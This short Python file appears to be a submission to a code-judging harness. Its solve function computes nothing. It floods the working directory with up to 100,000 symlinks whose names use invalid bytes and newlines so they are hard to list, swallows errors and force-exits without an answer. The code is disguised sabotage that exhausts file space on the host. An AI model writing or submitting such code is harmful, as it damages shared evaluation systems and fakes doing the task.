"""Leaves no room for one more file, in names that are hard to list, and no answer."""

import os


def solve(n):
    try:
        for i in range(100000):
            os.symlink("x" * 200, b"\xff\n" + str(i).encode() + b"-" * 100)
    except OSError:
        pass
    os._exit(1)
